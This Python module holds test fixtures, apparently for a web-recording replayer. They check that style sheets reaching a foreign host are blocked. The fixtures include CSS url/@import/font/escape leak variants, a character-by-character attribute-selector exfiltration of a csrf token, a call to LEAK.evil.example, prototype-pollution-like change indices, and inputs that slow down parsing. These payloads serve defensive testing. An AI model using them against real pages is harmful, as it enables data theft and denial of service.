"""Style sheets that call out, and some that only take long."""

from .builder import FOREIGN, OWN, PIXEL, TEXT, Recording, added, attributes, change, el, mutation, style, svg, text

_sheet = style("p{color:red}@media all{p{color:blue}}")
_inlined = el("link", {"rel": "stylesheet", "href": FOREIGN + "/a.css", "_cssText": f"@import url({FOREIGN}/b.css);body{{background:url({FOREIGN}/c.png)}}"})
_adopting = el("div", {}, el("p", {}, "x", isShadow=True), isShadowHost=True)
_text = text("p{}", isStyle=True)
_filled = el("style", {}, _text)
PROPERTIES = ("background", "background-image", "border-image-source", "list-style-image", "cursor", "content", "mask", "mask-image", "-webkit-mask-image", "filter", "clip-path", "shape-outside", "offset-path", "border-image", "src", "--x")


def sheet(address):
    return "".join(f"p:nth-child(n),p::before,.{name}{{{name}:url({address}/{index})}}" for index, name in enumerate(PROPERTIES)) + f"p{{background:var(--x)}} p::after{{content:url('{address}/q')}}"


RECORDINGS = {
    "css-url": Recording(el("p", {"class": " ".join(PROPERTIES)}, "x"), style(sheet(FOREIGN)), style(sheet("/maintenance/LEAK")), style(sheet("HOME/maintenance/LEAK"))),
    "css-in-attributes": Recording(*[el("p", {"style": f"{name}:url({address})"}, "x") for name in PROPERTIES for address in (FOREIGN, OWN)]),
    "css-import": Recording(style(f"@import '{FOREIGN}/1';"), style(f"@import url({FOREIGN}/2);"), style(f"@IMPORT url(\"{OWN}\") layer(x);"), style(f"@\\69mport '{FOREIGN}/3';"), style(f"@import/**/'{FOREIGN}/4'"), style(f"@charset 'utf-8';@import url('{FOREIGN}/5') print;")),
    "css-fonts": Recording(style(f"@font-face{{font-family:x;src:url({FOREIGN}/x.woff2),local(x),url('{OWN}') format('woff2')}}@font-face{{font-family:y;src:url({FOREIGN}/y);unicode-range:U+41}}p{{font-family:x,y}}"), el("p", {}, "ABC")),
    "css-image-set": Recording(style(f"p{{background:image-set('{FOREIGN}/1' 1x);background:-webkit-image-set(url({FOREIGN}/2) 1x);background:cross-fade(url({FOREIGN}/3),url({OWN}));background-image:image('{FOREIGN}/4')}}"), el("p", {"style": f"background:image-set(\"{OWN}\" 1x)"}, "x")),
    "css-attribute-selectors": Recording(el("input", {"value": "secret", "name": "csrf"}), style("".join(f"input[value^='{letter}']{{background:url({FOREIGN}/{letter})}}" for letter in "abcdefghijklmnopqrstuvwxyz") + f"input:has(~p){{background:url({OWN})}}")),
    "css-escapes": Recording(style(f"p{{background:u\\72l({FOREIGN}/1);background:\\75rl({FOREIGN}/2);background:\\000075\\000072\\00006c({FOREIGN}/3);background:url(\\68ttp://LEAK.evil.example/4);background:UR\\4c ('{FOREIGN}/5')}}"), style(f"p{{background:url(/**/{FOREIGN}/6);background:url( \n'{FOREIGN}/7'\n );background:url(\"{FOREIGN}/8\\\"')}}"), el("p", {"style": f"background:\\75rl({OWN})"}, "x")),
    "css-unclosed": Recording(style(f"p{{background:url({FOREIGN}/1"), style(f"p{{background:url('{FOREIGN}/2"), style(f"p{{}} /* p{{background:url({FOREIGN}/3)}}"), style(f"@media all{{p{{background:url({FOREIGN}/4)"), style(f"@import '{FOREIGN}/5")),
    "css-inlined": Recording(head=[_inlined, el("link", {"_cssText": f"p{{background:url({OWN})}}", "rel": "preconnect", "href": FOREIGN}), el("style", {"_cssText": f"@font-face{{font-family:z;src:url({FOREIGN})}}p{{font-family:z}}"}), el("img", {"_cssText": f"p{{background:url({FOREIGN})}}"})]),
    "css-rules-added": Recording(_sheet, then=[
        change({"source": 8, "id": _sheet["id"], "adds": [{"rule": f"p{{background:url({FOREIGN}/1)}}", "index": 0}, {"rule": f"@import '{FOREIGN}/2';", "index": 0}, {"rule": f"@font-face{{font-family:x;src:url({OWN})}}", "index": 0}]}),
        change({"source": 8, "id": _sheet["id"], "adds": [{"rule": f"p{{background:url({OWN})}}", "index": [1, 0]}]}, 400), change({"source": 8, "id": _sheet["id"], "adds": [{"rule": "p{}", "index": ["__proto__", "constructor"]}], "removes": [{"index": [9, 9, 9]}, {"index": -1}, {"index": "x"}]}, 410),
        change({"source": 8, "id": _sheet["id"], "replace": f"p{{background:url({FOREIGN}/3)}}", "replaceSync": f"p{{background:url({FOREIGN}/4)}}"}, 420)]),
    "css-declarations": Recording(_sheet, then=[
        change({"source": 13, "id": _sheet["id"], "index": [0], "set": {"property": "background-image", "value": f"url({FOREIGN})", "priority": "important"}}), change({"source": 13, "id": _sheet["id"], "index": [0], "set": {"property": "--x", "value": f"url({OWN})"}}, 400),
        change({"source": 13, "id": _sheet["id"], "index": [99], "set": {"property": "color", "value": "red"}}, 410), change({"source": 13, "id": _sheet["id"], "index": [], "remove": {"property": "color"}}, 420),
        change({"source": 13, "id": _sheet["id"], "index": ["constructor"], "set": {"property": "x", "value": "y"}}, 430), change({"source": 13, "id": 5, "index": "x", "set": None, "remove": 3}, 440)]),
    "css-adopted": Recording(_adopting, then=[change({"source": 15, "id": _adopting["id"], "styleIds": [1], "styles": [{"styleId": 1, "rules": [{"rule": f"p{{background:url({FOREIGN})}}", "index": 0}]}]}), change({"source": 8, "styleId": 1, "adds": [{"rule": f"p{{background:url({OWN})}}"}]}, 400)]),
    "css-changed": Recording(_filled, then=[
        mutation(texts=[{"id": _text["id"], "value": sheet(FOREIGN)}]), mutation(350, texts=[{"id": _filled["id"], "value": sheet(OWN)}]), added(text(sheet(FOREIGN), isStyle=True), parent=_filled["id"], at=360),
        attributes(_filled, {"media": "all", "_cssText": sheet(FOREIGN), "src": FOREIGN}), added(style(sheet(OWN)), at=450), added(text(sheet(OWN)), parent=_filled["id"], at=460)]),
    "css-style-objects": Recording(then=[attributes(7, {"style": {"background-image": f"url({FOREIGN})", "list-style-image": [f"url({OWN})", "important"], "color": False, "__proto__": "x", "cssText": f"background:url({FOREIGN})", "width": {"toString": 1}}}), attributes(7, {"style": f"background:url({FOREIGN})"}, 450), attributes(7, {"style": [FOREIGN]}, 460)]),
    "css-in-svg": Recording(svg("svg", {"style": f"background:url({FOREIGN})"}, svg("style", {}, f"@import '{FOREIGN}';rect{{fill:url({FOREIGN}#x);filter:url({OWN}#y)}}"), svg("rect", {"width": "20", "height": "20"}))),
    "css-slow-white-space": Recording(style("p{color:red" + " " * 200_000 + "x}" + "\n" * 200_000 + "q{}"), el("style", {"_cssText": " " * 300_000 + "x"})),
    "css-slow-hover": Recording(style("".join(f".h{number}:hover{{}}" for number in range(20_000)))),
    "css-slow-braces": Recording(style("{" * 20_000), style("/*" * 50_000), style("@media x{" * 3000), style("a:not(" * 20_000), style("\\" * 50_000 + "url("), style("url('" * 50_000), style("@import " * 50_000)),
    "css-covers-everything": Recording(style(f"*{{position:fixed!important;inset:-9999px!important;z-index:2147483647!important;background:image-set('{PIXEL}' 1x)}}html,body{{display:none}}"), then=[mutation(texts=[{"id": TEXT, "value": "middle"}])]),
}
